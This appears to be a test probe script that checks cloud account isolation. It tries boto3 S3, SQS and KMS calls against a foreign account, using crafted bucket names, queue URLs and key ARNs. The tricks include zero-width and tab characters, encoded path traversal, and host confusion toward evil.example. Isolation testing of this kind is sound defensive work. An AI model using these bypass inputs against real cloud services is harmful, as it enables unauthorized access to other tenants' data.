import json, sys
v = json.load(sys.stdin)
print("STARTED", file=sys.stderr)
sys.stderr.flush()
def leak(what):
    print(json.dumps({"leaked": str(what)[:500]}))
    sys.stdout.flush()
    print("LEAKED", str(what)[:500], file=sys.stderr)
def attempt(call):
    try:
        call()
    except BaseException as error:
        print(type(error).__name__, str(error)[:200], file=sys.stderr)
import boto3
f = "999999999999"
s3, sqs, kms = boto3.client("s3"), boto3.client("sqs"), boto3.client("kms")
for bucket in ("arn:aws:s3:::" + v["foreign_bucket"], " " + v["foreign_bucket"], v["foreign_bucket"] + "\u200b", v["foreign_bucket"].upper(), "arn:aws:s3::%s:accesspoint/m.mrap" % f,
               "arn:aws:s3-outposts:us-east-1:%s:outpost/op/accesspoint/x" % f, v["foreign_bucket"] + "--use1-az4--x-s3", "mine%2f..%2f" + v["foreign_bucket"]):
    attempt(lambda: s3.list_objects_v2(Bucket=bucket, Prefix="stolen"))
for url in ("https://sqs.us-east-1.amazonaws.com/%s/stolen" % f, "https://123456789012:x@sqs.us-east-1.amazonaws.com/%s/stolen" % f, "https://sqs.us-east-1.amazonaws.com//%s/stolen" % f,
            "https://sqs.us-east-1.amazonaws.com/123456789012/../%s/stolen" % f, "https://sqs.us-east-1.amazonaws.com\\@evil.example/123456789012/stolen", "sqs://%s/stolen" % f):
    attempt(lambda: sqs.get_queue_attributes(QueueUrl=url))
for key in ("arn:aws:kms:us-east-1:%s:key/stolen" % f, "arn:aws:kms:us-east-1:%s:alias/stolen" % f, "\tarn:aws:kms:us-east-1:%s:key/stolen" % f):
    attempt(lambda: kms.describe_key(KeyId=key))
